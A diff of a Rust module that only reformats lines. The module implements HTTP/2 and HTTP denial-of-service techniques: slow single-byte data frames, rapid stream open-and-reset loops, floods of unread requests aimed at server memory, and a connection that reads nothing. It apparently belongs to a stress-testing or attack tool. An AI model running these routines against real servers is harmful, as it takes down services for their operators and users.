@@ -42,7 +42,9 @@ pub(super) async fn slow(target: &Target) -> std::io::Result<()> {
     let mut stream = greet(target).await?;
     stream.write_all(&frames::headers(1)).await?;
     for byte in small_call(1) {
-        stream.write_all(&frames::frame(Kind::Data, 0, 1, &[byte])).await?;
+        stream
+            .write_all(&frames::frame(Kind::Data, 0, 1, &[byte]))
+            .await?;
         sleep(Duration::from_secs(1)).await;
     }
     until_closed(stream, target).await
@@ -55,10 +57,14 @@ pub(super) async fn resets(target: &Target) -> std::io::Result<()> {
     let mut dropped = vec![0; 16 * 1024];
     for number in 0.. {
         let id = 2 * number + 1;
-        stream.write_all(&[frames::headers(id), frames::end(id, &body)].concat()).await?;
+        stream
+            .write_all(&[frames::headers(id), frames::end(id, &body)].concat())
+            .await?;
         // Long enough to be read, and for most too short to be answered.
         tokio::task::yield_now().await;
-        stream.write_all(&frames::frame(Kind::Reset, 0, id, &8_u32.to_be_bytes())).await?;
+        stream
+            .write_all(&frames::frame(Kind::Reset, 0, id, &8_u32.to_be_bytes()))
+            .await?;
         target.gains.count("resets");
         while let Ok(length) = stream.try_read(&mut dropped) {
             if length == 0 {
@@ -78,7 +84,9 @@ pub(super) async fn no_read(target: &Target) -> std::io::Result<()> {
     sleep(Duration::from_millis(fastrand::u64(..50))).await;
     for number in 0..100_000 {
         let id = 2 * number + 1;
-        stream.write_all(&[frames::headers(id), frames::end(id, &body)].concat()).await?;
+        stream
+            .write_all(&[frames::headers(id), frames::end(id, &body)].concat())
+            .await?;
         target.gains.count("calls");
         // The attack is on memory: as many calls of a client that reads would keep Redis busy, too.
         sleep(Duration::from_millis(50)).await;
@@ -108,7 +116,10 @@ pub(super) async fn stop_in_body(target: &Target) -> std::io::Result<()> {
 
 pub(super) async fn read_nothing(target: &Target) -> std::io::Result<()> {
     let mut stream = connect(target.api).await?;
-    let request = format!("GET {} HTTP/1.1\r\nhost: {}\r\n\r\n", target.workflow, target.api);
+    let request = format!(
+        "GET {} HTTP/1.1\r\nhost: {}\r\n\r\n",
+        target.workflow, target.api
+    );
     stream.write_all(request.as_bytes()).await?;
     target.gains.count("requests");
     // Nothing is read, so only an attempt to write shows that the server has gone.
